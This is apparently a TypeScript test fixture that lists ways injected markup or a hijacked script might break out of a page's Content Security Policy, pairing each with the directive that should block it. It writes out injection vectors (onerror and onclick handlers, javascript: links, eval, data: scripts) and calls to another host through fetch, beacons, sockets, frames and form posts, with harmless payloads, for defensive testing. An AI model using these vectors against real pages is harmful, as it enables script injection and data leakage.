/** What markup in an output, or a script that was turned against its page, may try. */
export interface Attempt {
  name: string;
  /** The directive of the page's policy that refuses it. */
  directive: string;
  /** What comes into the page; `elsewhere` is another host's address. */
  markup?: (elsewhere: string) => string;
  /** Or what runs as a script of the page's own, with `elsewhere`. */
  script?: string;
  /** What to click once the attempt is in the page. */
  click?: string;
}

export const attempts: Attempt[] = [
  {
    name: "an inline script",
    directive: "script-src-elem",
    script: `const script = document.createElement("script");
      script.text = "document.body.dataset.hit = 1"; document.body.append(script);`,
  },
  {
    name: "a handler of a picture that is missing",
    directive: "script-src-attr",
    markup: () =>
      `<img src="missing.png" onerror="document.body.dataset.hit = 1">`,
  },
  {
    name: "a handler of a click",
    directive: "script-src-attr",
    markup: () =>
      `<button id="bait" onclick="document.body.dataset.hit = 1">?</button>`,
    click: "#bait",
  },
  {
    name: "a javascript: link",
    directive: "script-src-elem",
    markup: () =>
      `<a id="bait" href="javascript:void(document.body.dataset.hit = 1)">?</a>`,
    click: "#bait",
  },
  {
    name: "another host's script",
    directive: "script-src-elem",
    script: `const script = document.createElement("script");
      script.src = elsewhere + "script"; document.body.append(script);`,
  },
  {
    name: "another host's module",
    directive: "script-src-elem",
    script: `import(elsewhere + "module").catch(() => {});`,
  },
  {
    name: "a script made of data",
    directive: "script-src-elem",
    script: `const script = document.createElement("script");
      script.src = "data:text/javascript,document.body.dataset.hit = 1";
      document.body.append(script);`,
  },
  {
    name: "eval",
    directive: "script-src",
    script: `try { eval("document.body.dataset.hit = 1"); } catch {}`,
  },
  {
    name: "a function made of text",
    directive: "script-src",
    script: `try { Function("document.body.dataset.hit = 1")(); } catch {}`,
  },
  {
    name: "a timer that is given text",
    directive: "script-src",
    script: `setTimeout("document.body.dataset.hit = 1");`,
  },
  {
    name: "a worker made of text",
    directive: "worker-src",
    script: `const text = "fetch('" + elsewhere + "worker')";
      new Worker(URL.createObjectURL(new Blob([text])));`,
  },
  {
    name: "a request",
    directive: "connect-src",
    script: `fetch(elsewhere + "fetch", { mode: "no-cors" }).catch(() => {});`,
  },
  {
    name: "a beacon",
    directive: "connect-src",
    script: `navigator.sendBeacon(elsewhere + "beacon", "x");`,
  },
  {
    name: "a socket",
    directive: "connect-src",
    script: `new WebSocket(elsewhere.replace("http", "ws") + "socket");`,
  },
  {
    name: "a picture",
    directive: "img-src",
    markup: (elsewhere) => `<img src="${elsewhere}picture">`,
  },
  {
    name: "a picture in a style",
    directive: "img-src",
    markup: (elsewhere) =>
      `<p style="background: url(${elsewhere}background)">?</p>`,
  },
  {
    name: "a sound",
    directive: "media-src",
    markup: (elsewhere) => `<audio src="${elsewhere}sound" preload="auto">`,
  },
  {
    name: "a style sheet",
    directive: "style-src-elem",
    markup: (elsewhere) => `<link rel="stylesheet" href="${elsewhere}style">`,
  },
  {
    name: "a font",
    directive: "font-src",
    script: `new FontFace("f", "url(" + elsewhere + "font)").load().catch(() => {});`,
  },
  {
    name: "a frame",
    directive: "frame-src",
    markup: (elsewhere) => `<iframe src="${elsewhere}frame"></iframe>`,
  },
  {
    name: "an object",
    directive: "object-src",
    markup: (elsewhere) => `<object data="${elsewhere}object"></object>`,
  },
  {
    name: "another base for the page's addresses",
    directive: "base-uri",
    markup: (elsewhere) => `<base href="${elsewhere}">`,
  },
  // Last: Playwright's clicks wait for the pages that these would lead to.
  {
    name: "a form that is sent elsewhere",
    directive: "form-action",
    script: send('elsewhere + "form"'),
  },
  {
    name: "a form that is sent home",
    directive: "form-action",
    script: send('"/form"'),
  },
];

/** A program that posts a form. */
function send(address: string): string {
  return `const form = document.createElement("form");
    form.method = "post"; form.action = ${address};
    document.body.append(form); form.requestSubmit();`;
}
